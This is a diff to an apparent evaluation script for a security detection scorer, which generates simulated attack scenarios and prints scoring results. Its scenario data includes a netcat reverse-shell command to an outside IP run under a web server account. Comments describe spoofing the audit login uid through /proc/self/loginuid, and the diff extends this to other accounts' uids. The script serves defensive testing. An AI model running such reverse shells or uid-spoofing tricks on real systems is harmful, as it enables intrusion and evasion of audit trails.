@@ -13,7 +13,8 @@ const { runEval } = require(root + '/dist/scorer/eval/run');
 const { generateScenarios } = require(root + '/dist/scorer/eval/scenarios/generate');
 const { ATTACKS } = require(root + '/dist/scorer/eval/scenarios/stories');
 const WWW = process.argv[3] === 'www';
-const SELF_SET = process.argv[5] === 'selfset';
+// `selfset` writes its own uid, `selfset:1003` another account's (ops, who logs in)
+const SELF_SET = /^selfset(?::(\d+))?$/.exec(process.argv[5] ?? '');
 const T = WWW
   ? [
       ['edge-web', 'www-data', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
@@ -69,7 +70,7 @@ T.forEach(([host, who, exe, cmd, o], i) =>
         const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
         h.exec(t + 60, who, exe, cmd, fpm, { story: this.id, cwd: '/var/www/shop' });
         // `echo 33 > /proc/self/loginuid` in the php worker: every process it starts carries it
-        if (SELF_SET) h.rows[h.rows.length - 1].columns.auid = '33';
+        if (SELF_SET) h.rows[h.rows.length - 1].columns.auid = SELF_SET[1] ?? '33';
         return;
       }
       h.login(t, who, host === 'pg-main' ? '10.40.8.37' : '10.40.8.44');
@@ -112,9 +113,9 @@ T.forEach(([host, who, exe, cmd, o], i) =>
   set.testStory.forEach((id, i) => {
     if (!id.startsWith('r7-')) return;
     const s = scored[i];
-    const [, who, , cmd] = T[Number(id.slice(3))];
+    const [, , , cmd] = T[Number(id.slice(3))];
     console.log(
-      `${who.padEnd(5)} ${cmd.slice(0, 48).padEnd(48)} ${s.score === null ? 'NULL ' : s.score.toFixed(3)} ${s.model.padEnd(12)} ${s.reasons.slice(0, 150)}`,
+      `${s.subject.padEnd(5)} ${cmd.slice(0, 48).padEnd(48)} ${s.score === null ? 'NULL ' : s.score.toFixed(3)} ${s.model.padEnd(12)} ${s.reasons.slice(0, 150)}`,
     );
   });
 })().catch((e) => {
